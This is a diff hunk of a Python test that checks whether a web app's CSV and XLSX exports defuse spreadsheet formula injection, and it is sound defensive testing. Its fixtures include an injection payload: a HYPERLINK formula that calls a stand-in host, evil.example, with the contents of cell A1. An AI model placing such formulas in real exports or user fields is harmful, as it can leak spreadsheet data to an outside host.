@@ -388,9 +388,10 @@ def test_exports_give_both_bases_and_neutralise_formulas(answered, world):
     assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"' in responses
     assert "'@SUM(A1:A9)" in responses and "'-2+3" in responses
     book = openpyxl.load_workbook(io.BytesIO(client.get(base + "responses.xlsx").content))
-    cells = [cell.value for row in book.active.iter_rows() for cell in row]
-    assert "'" + hostile.name in cells and "'@SUM(A1:A9)" in cells
-    assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@")) for v in cells)
+    cells = {cell.value: cell for row in book.active.iter_rows() for cell in row}
+    for text in (hostile.name, "@SUM(A1:A9)", "-2+3"):  # unchanged text, never a formula
+        assert cells[text].data_type == "s" and cells[text].quotePrefix
+    assert not any(cell.data_type == "f" for cell in cells.values())
     book = openpyxl.load_workbook(io.BytesIO(client.get(base + "results.xlsx").content))
     assert book.active.max_row == 1 + 5 * (6 + 3 + 5)  # (options + points) × columns
     focal = client_for(world, "focal").get(base + "responses.csv").content.decode("utf-8-sig")
